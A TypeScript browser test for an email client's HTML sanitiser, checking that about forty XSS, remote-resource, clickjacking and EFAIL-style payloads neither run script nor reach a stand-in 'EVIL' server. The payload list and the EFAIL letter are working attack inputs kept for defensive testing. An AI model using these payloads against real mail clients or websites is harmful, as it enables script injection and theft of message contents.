import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readLetter } from '../../server/channels/email/mime/read.ts';
import { frameDocument } from '../../web/inbox/thread/htmlMail.ts';
import { openChromium } from '../support/browser.ts';
import { isMissing } from '../support/parts.ts';

/** Written anew from what is publicly known about HTML, SVG, MathML, CSS, cid and EFAIL tricks; `EVIL` is a server that counts. */
const attacks: string[] = [
  '<script>parent.pwned=1</script>',
  '<SCRIPT SRC=EVIL/x.js></SCRIPT>',
  '<scr<script>ipt>parent.pwned=1</scr</script>ipt>',
  '<img src=x onerror="parent.pwned=1">',
  '<img src="EVIL/i.png" onload="parent.pwned=1">',
  '<img/src=x/onerror=parent.pwned=1>',
  '<img src="EVIL/1" srcset="EVIL/2 2x" lowsrc="EVIL/3" dynsrc="EVIL/4">',
  '<picture><source srcset="EVIL/p"><img src="EVIL/q"></picture>',
  '<body onload="parent.pwned=1" background="EVIL/b">x',
  '<svg onload="parent.pwned=1"><script>parent.pwned=1</script><image href="EVIL/s"/><use href="EVIL/u#x"/></svg>',
  '<svg><foreignObject><iframe src="EVIL/fo"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:parent.pwned=1"><text>x</text></a><set onbegin="parent.pwned=1"/></svg>',
  '<svg><style>@import "EVIL/sv"</style></svg>',
  '<math href="javascript:parent.pwned=1">x</math><math><maction actiontype="statusline" xlink:href="javascript:parent.pwned=1">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>">',
  '<textarea><img src=x onerror=parent.pwned=1></textarea><title><img src=x onerror=parent.pwned=1></title>',
  '<template><script>parent.pwned=1</script></template><xmp><script>parent.pwned=1</script></xmp>',
  '<style>@import url(EVIL/c.css);*{background:url(EVIL/c)}@font-face{font-family:x;src:url(EVIL/f)}</style><p style="font-family:x">x',
  '<link rel=stylesheet href="EVIL/l.css"><link rel=prefetch href="EVIL/pf"><link rel=preload as=image href="EVIL/pl"><link rel="dns-prefetch" href="EVIL">',
  '<p style="background:url(EVIL/s1)">x</p><p style="background:\\75\\72\\6c(EVIL/s2)">x</p><p style="background:image-set(\'EVIL/s3\' 1x)">x</p>',
  '<p style="list-style:url(EVIL/s4);cursor:url(EVIL/s5),auto;content:url(EVIL/s6);border-image:url(EVIL/s7)">x</p>',
  '<ul><li style="list-style-image:url(EVIL/s8)">x</ul><div style="--x:url(EVIL/s9);background:var(--x)">x</div>',
  '<p style="width:expression(parent.pwned=1);behavior:url(EVIL/h.htc);-moz-binding:url(EVIL/m.xml)">x',
  '<meta http-equiv="refresh" content="0;url=EVIL/m"><meta http-equiv="Set-Cookie" content="a=b">',
  '<base href="EVIL/"><img src="rel.png"><a href="rel">x</a>',
  '<iframe src="EVIL/if"></iframe><iframe srcdoc="<script>parent.parent.pwned=1</script>"></iframe><frameset><frame src="EVIL/fr"></frameset>',
  '<object data="EVIL/o"></object><embed src="EVIL/e"><applet code="EVIL/a"></applet><object data="data:text/html,<script>parent.pwned=1</script>"></object>',
  '<video src="EVIL/v" poster="EVIL/vp" autoplay></video><audio src="EVIL/au" autoplay></audio><video><source src="EVIL/vs" onerror="parent.pwned=1"></video><track src="EVIL/t">',
  '<form action="EVIL/form" id=f><input name=a value=b autofocus onfocus="parent.pwned=1"><button formaction="EVIL/fa">Go</button></form><input type=image src="EVIL/ti">',
  '<input autofocus onfocus=parent.pwned=1><select autofocus onfocus=parent.pwned=1></select><details open ontoggle=parent.pwned=1>x</details><marquee onstart=parent.pwned=1>x</marquee>',
  '<a href="javascript:parent.pwned=1">x</a><a href="&#106;ava&#10;script:parent.pwned=1">x</a><a href="\u0001javascript:parent.pwned=1">x</a>',
  '<a href="data:text/html,<script>parent.pwned=1</script>">x</a><a href="vbscript:x">x</a><a href="blob:EVIL/x">x</a><a ping="EVIL/ping" href="https://shop.example/">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnB3bmVkPTEiLz4=">',
  '<img src="cid:x" onerror="parent.pwned=1">',
  '<img src="cid:x&quot; onerror=&quot;parent.pwned=1"><img src="cid:../../api/v1/me"><img src="cid://EVIL/cid">',
  '<img data-remote-src="EVIL/dr" data-cid="x"><div data-remote-background="EVIL/db">x</div>',
  '<img alt="<script>parent.pwned=1</script>" title=\'"><script>parent.pwned=1</script>\' src="x">',
  '<table background="EVIL/t1"><td background="EVIL/t2"><tr background="EVIL/t3">x</table>',
  '<!--[if gte mso 9]><img src="EVIL/mso"><![endif]--><!--><img src=x onerror=parent.pwned=1>-->',
  '<![CDATA[<script>parent.pwned=1</script>]]><?xml-stylesheet href="EVIL/xs"?><xml:namespace prefix="t"/><t:set attributeName=innerHTML to="<script>parent.pwned=1</script>">',
  '<div style="position:fixed;inset:0;z-index:9"><a href="EVIL/click" style="position:absolute;inset:0">x</a></div>',
  '<p>Secret <img src="EVIL/?\n</p><p>left open',
  '<x onclick=parent.pwned=1 style="animation:x" onanimationstart=parent.pwned=1>x</x><p onmouseover=parent.pwned=1 onpointerrawupdate=parent.pwned=1>x</p>',
];

/** EFAIL: the secret part stands between two parts that open and close an address. */
const efail = (evil: string) =>
  `From: m@evil.example\r\nTo: shop@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="${evil}/efail?\r\n--b\r\nContent-Type: text/plain\r\n\r\nthe secret\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n`;

describe.skipIf(isMissing('Chromium'))('an attack letter in a real browser', () => {
  let browser: Browser;
  let evil: Server;
  let ours: Server;
  let evilUrl = '';
  let oursUrl = '';
  let page = '';
  const reached: string[] = [];

  const listen = (server: Server) =>
    new Promise<string>((resolve) =>
      server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
    );

  beforeAll(async () => {
    evil = createServer((req, res) => {
      reached.push(req.url ?? '');
      res.setHeader('Access-Control-Allow-Origin', '*').end();
    });
    ours = createServer((req, res) => {
      if (req.url === '/') res.setHeader('Content-Type', 'text/html; charset=utf-8').end(page);
      else if (req.url?.startsWith('/api/v1/messages/')) reached.push(`asked ${req.url}`) && res.writeHead(404).end();
      else res.writeHead(404).end();
    });
    evilUrl = await listen(evil);
    oursUrl = await listen(ours);
    browser = await openChromium();
  });
  afterAll(async () => {
    await browser?.close();
    for (const server of [evil, ours]) server?.close();
  });

  /** Shows letters, each in a frame as the inbox has it, and answers what ran, where it went, and what was asked of others. */
  async function show(letters: string[], pictures: string | null) {
    const frames: string[] = [];
    for (const raw of letters) {
      const { safe } = await readLetter(Buffer.from(raw));
      const source = frameDocument(safe?.html ?? '', [], { pictures, quotes: true, colours: null, dir: 'ltr' });
      const escaped = source.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
      frames.push(
        `<iframe sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox" referrerpolicy="no-referrer" srcdoc="${escaped}"></iframe>`,
      );
    }
    page = `<!doctype html><title>inbox</title>${frames.join('\n')}`;
    reached.length = 0;
    const context = await browser.newContext();
    const tab = await context.newPage();
    const others: string[] = [];
    let dialogs = 0;
    tab.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    context.on('request', (request) => {
      if (!request.url().startsWith(oursUrl) && !/^(data|about):/.test(request.url())) others.push(request.url());
    });
    await tab.goto(oursUrl, { waitUntil: 'load' });
    for (const frame of tab.frames().slice(1)) {
      // As a string: the page's own words are no part of this program's types.
      await frame.evaluate(
        "for (const one of document.querySelectorAll('input,select,details,p,div,x')) for (const name of ['focus','mouseover','toggle']) one.dispatchEvent(new Event(name))",
      );
    }
    await tab.waitForLoadState('networkidle');
    const pwned = await tab.evaluate(() => (globalThis as unknown as { pwned?: number }).pwned ?? null);
    const address = tab.url();
    const nested = tab.frames().length - 1 - letters.length;
    await context.close();
    return { pwned, dialogs, others, nested, left: address !== `${oursUrl}/`, reached: [...reached] };
  }

  const quiet = { pwned: null, dialogs: 0, others: [], nested: 0, left: false };
  const html = (body: string) =>
    `From: m@evil.example\r\nTo: shop@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}`;

  const all = () => attacks.map((attack) => html(attack.replaceAll('EVIL', evilUrl)));

  it('runs nothing and asks nothing of anybody', { timeout: 120_000 }, async () => {
    expect(await show(all(), null)).toEqual({ ...quiet, reached: [] });
  });

  it('asks our server alone once its reader wants the pictures', { timeout: 120_000 }, async () => {
    const shown = await show(all(), '/api/v1/messages/m/images');
    expect(shown).toMatchObject(quiet);
    expect(shown.reached.length).toBeGreaterThan(0);
    for (const one of shown.reached) expect(one).toMatch(/^asked \/api\/v1\/messages\/m\/images\?url=/);
  });

  it('carries no secret of another part away', { timeout: 60_000 }, async () => {
    for (const pictures of [null, '/api/v1/messages/m/images']) {
      const shown = await show([efail(evilUrl)], pictures);
      expect(shown).toMatchObject(quiet);
      expect(shown.reached.join(' ')).not.toContain('secret');
    }
  });
});
